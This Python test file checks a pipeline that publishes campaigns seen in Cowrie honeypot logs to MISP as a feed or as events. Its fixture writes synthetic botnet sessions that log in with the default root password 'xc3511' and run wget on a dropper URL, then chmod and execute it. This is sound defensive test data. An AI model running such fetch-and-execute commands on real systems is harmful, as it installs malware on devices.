"""The DAG's publish_misp task end to end (the DAG's tasks in one interpreter; the feed folder's
OpenLineage dataset is checked on the golden `airflow dags test` run, test_dag_runs.py): a MISP feed
folder without a ``coord_misp`` connection, the (emulated) MISP with one; publishing the interval
again (the task alone) changes nothing."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import psycopg
from pymisp import MISPEvent, PyMISP

from coord_core.intel import identifiers
from tests.conftest import REAL_SAMPLE
from tests.dags.airflow_env import AirflowEnv
from tests.dags.in_process import run_intervals_in_process
from tests.emulators.misp import MispEmulator

WINDOW_START = datetime.fromisoformat("2025-10-24T02:00:00+00:00")
WINDOW_END = datetime.fromisoformat("2025-10-24T14:00:00+00:00")
BOT_IPS = ["45.83.12.7", "91.204.44.18", "138.68.90.3", "185.220.101.9"]
DROPPER = "http://176.65.148.10/bins/arm7"
DROPPER_SHA = "9c1f2b7e4d6a8c0b3e5f7a9d1c2b4e6f8a0c2e4b6d8f0a1c3e5b7d9f1a3c5e7b"


def _cowrie(eventid: str, at: datetime, session: str, ip: str, **fields: object) -> str:
    moment = at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    base = {"eventid": eventid, "timestamp": moment, "session": session, "src_ip": ip, "sensor": "sensor-e2e"}
    return json.dumps({**base, "message": "", **fields})


def _botnet_log(path: Path) -> Path:
    """Four sources on four networks fetching one dropper with one script, minutes apart (Cowrie JSON)."""
    commands = ["cd /tmp || cd /var/run", f"wget {DROPPER}", "chmod 777 arm7; ./arm7 ssh"]
    lines = []
    for i, ip in enumerate(BOT_IPS):
        at = WINDOW_START + timedelta(hours=3, minutes=7 * i)
        session = f"b07{i:09d}"
        second = timedelta(seconds=1)
        lines += [
            _cowrie("cowrie.session.connect", at, session, ip, src_port=40000 + i, dst_ip="10.0.0.2",
                    dst_port=22, protocol="ssh"),
            _cowrie("cowrie.client.version", at + second, session, ip, version="SSH-2.0-Go"),
            _cowrie("cowrie.login.success", at + 2 * second, session, ip, username="root", password="xc3511"),
            *(_cowrie("cowrie.command.input", at + (3 + n) * second, session, ip, input=command)
              for n, command in enumerate(commands)),
            _cowrie("cowrie.session.file_download", at + 6 * second, session, ip, url=DROPPER,
                    outfile=f"var/lib/cowrie/downloads/{DROPPER_SHA}", shasum=DROPPER_SHA, destfile="arm7"),
            _cowrie("cowrie.session.closed", at + 9 * second, session, ip, duration=9.0),
        ]  # fmt: skip
    path.write_text("\n".join(lines) + "\n")
    return path


def _conf(tmp_path: Path) -> dict[str, object]:
    return {
        "window_start": WINDOW_START.isoformat(),
        "window_end": WINDOW_END.isoformat(),
        "input_paths": [str(REAL_SAMPLE), str(_botnet_log(tmp_path / "botnet.json"))],
        "min_publish_confidence": 0.5,
    }


def _qualifying_campaigns(dsn: str, min_confidence: float) -> set[str]:
    """Cross-interval ids of the interval's campaigns the export rule selects, from the database."""
    with psycopg.connect(dsn) as conn:
        rows = conn.execute(
            """SELECT DISTINCT i.campaign_id FROM coord.campaigns c JOIN coord.campaign_identity i
               ON i.interval_start = c.interval_start AND i.interval_end = c.interval_end
              AND i.occurrence_id = c.campaign_id
               WHERE c.verdict <> 'coincidental' AND c.confidence >= %s""",
            (min_confidence,),
        ).fetchall()
    return {r[0] for r in rows}


def _export_items(dsn: str, target: str) -> dict[str, object]:
    with psycopg.connect(dsn) as conn:
        row = conn.execute("SELECT items FROM coord.exports WHERE target = %s", (target,)).fetchone()
    assert row is not None, f"no {target} export recorded"
    items: dict[str, object] = row[0]
    return items


def test_without_a_misp_connection_the_run_writes_a_feed_folder(
    airflow: AirflowEnv, postgres_dsn: str, tmp_path: Path
) -> None:
    feed = tmp_path / "misp-feed"
    airflow.env["AIRFLOW_VAR_COORD_MISP_FEED_DIR"] = str(feed)
    conf = _conf(tmp_path)
    output = run_intervals_in_process(airflow, [(WINDOW_START, WINDOW_END)], conf)
    assert str(feed) in output  # the log says where the feed is
    qualifying = _qualifying_campaigns(postgres_dsn, 0.5)
    assert qualifying, "the four-source botnet must be a qualifying campaign"
    expected = {identifiers.event_uuid(c) for c in qualifying}
    event_files = {p.stem for p in feed.glob("*.json") if p.name != "manifest.json"}
    assert event_files == expected
    manifest = json.loads((feed / "manifest.json").read_text())
    assert set(manifest) == expected
    hashes = (feed / "hashes.csv").read_text().splitlines()
    for uuid in expected:
        event = MISPEvent()
        event.load_file(feed / f"{uuid}.json")
        assert event.uuid == uuid and event.attributes and event.published
        assert {f"{h},{uuid}" for h in event.attributes_hashes("md5")} <= set(hashes)
    botnet = [
        uuid for uuid in expected
        if DROPPER_SHA in {a.value for a in _load(feed / f"{uuid}.json").attributes}
    ]  # fmt: skip
    assert len(botnet) == 1
    sources = {a.value for a in _load(feed / f"{botnet[0]}.json").attributes if a.type == "ip-src"}
    assert sources >= set(BOT_IPS)
    recorded = _export_items(postgres_dsn, "misp_feed")["events"]
    assert recorded == {c: identifiers.event_uuid(c) for c in qualifying}
    before = {p.name: p.read_bytes() for p in feed.iterdir()}
    _publish_again(airflow, conf)
    assert {p.name: p.read_bytes() for p in feed.iterdir()} == before  # no UUID, no byte changed


def _publish_again(airflow: AirflowEnv, conf: dict[str, object]) -> None:
    """The DAG's publish_misp task once more for the interval (in one interpreter, without
    Airflow's processes): what a rerun of the DAG would publish again."""
    run_intervals_in_process(airflow, [(WINDOW_START, WINDOW_END)], conf, tasks=["publish_misp"])


def _load(path: Path) -> MISPEvent:
    event = MISPEvent()
    event.load_file(path)
    return event


def test_with_a_misp_connection_the_run_creates_one_event_per_campaign_then_none(
    airflow: AirflowEnv, postgres_dsn: str, tmp_path: Path
) -> None:
    with MispEmulator() as misp:
        host, port = misp.url.removeprefix("http://").split(":")
        airflow.env["AIRFLOW_CONN_COORD_MISP"] = f"http://:{quote(misp.key, safe='')}@{host}:{port}"
        conf = _conf(tmp_path)
        output = run_intervals_in_process(airflow, [(WINDOW_START, WINDOW_END)], conf)
        assert misp.key not in output  # the API key never reaches the logs
        qualifying = _qualifying_campaigns(postgres_dsn, 0.5)
        assert qualifying
        held = {e.uuid for e in misp.instance.events.values()}
        assert held == {identifiers.event_uuid(c) for c in qualifying}
        assert len(misp.calls("POST", "/events/add")) == len(qualifying)
        recorded = _export_items(postgres_dsn, "misp")["events"]
        assert recorded == {c: identifiers.event_uuid(c) for c in qualifying}
        stamps = {e.uuid: e.timestamp for e in misp.instance.events.values()}
        writes = len(misp.requests)

        _publish_again(airflow, conf)
        assert {e.uuid for e in misp.instance.events.values()} == held  # no new event
        assert {e.uuid: e.timestamp for e in misp.instance.events.values()} == stamps  # not even an edit
        later = list(misp.requests)[writes:]
        assert [r.path for r in later if r.method == "POST" and "restSearch" not in r.path] == []
        assert not (Path(airflow.home) / "coord_misp_feed").exists()  # with a connection, no feed


def test_what_misp_already_knows_becomes_threat_intel_evidence_of_the_campaign(
    airflow: AirflowEnv, postgres_dsn: str, tmp_path: Path
) -> None:
    with MispEmulator() as misp:
        analyst = PyMISP(misp.url, misp.key, ssl=False)
        known = MISPEvent()
        known.info = "Loader seen by a partner sensor network"
        known.add_attribute("sha256", DROPPER_SHA, category="Payload delivery", to_ids=True)
        known.add_tag("tlp:green")
        analyst.add_event(known, pythonify=True)
        host, port = misp.url.removeprefix("http://").split(":")
        airflow.env["AIRFLOW_CONN_COORD_MISP"] = f"http://:{quote(misp.key, safe='')}@{host}:{port}"
        run_intervals_in_process(airflow, [(WINDOW_START, WINDOW_END)], _conf(tmp_path))
        searches = misp.calls("POST", "/attributes/restSearch")
    assert searches  # the analysis asked MISP about the interval's indicators
    with psycopg.connect(postgres_dsn) as conn:
        rows = conn.execute(
            "SELECT e.campaign_id, e.score, e.statistic FROM coord.evidence e "
            "WHERE e.factor = 'threat_intel' ORDER BY e.campaign_id"
        ).fetchall()
        botnet = conn.execute(
            "SELECT DISTINCT campaign_id FROM coord.campaign_members m JOIN coord.sessions s "
            "USING (interval_start, session_id) WHERE s.src_ip = ANY(%s)",
            (BOT_IPS,),
        ).fetchall()
    assert len(botnet) == 1, botnet  # the four bots are one campaign
    by_campaign = {campaign: (score, statistic) for campaign, score, statistic in rows}
    score, statistic = by_campaign[botnet[0][0]]
    assert not statistic["degraded"] and statistic["matched_indicators"] == 1 and score > 0
    (event,) = statistic["events"]
    assert event["info"] == "Loader seen by a partner sensor network"
    assert event["tags"] == ["tlp:green"] and event["values"] == [f"sha256:{DROPPER_SHA}"]
    # Every other campaign was looked up too, and matched nothing.
    assert all(s["matched_indicators"] == 0 for c, (_, s) in by_campaign.items() if c != botnet[0][0])
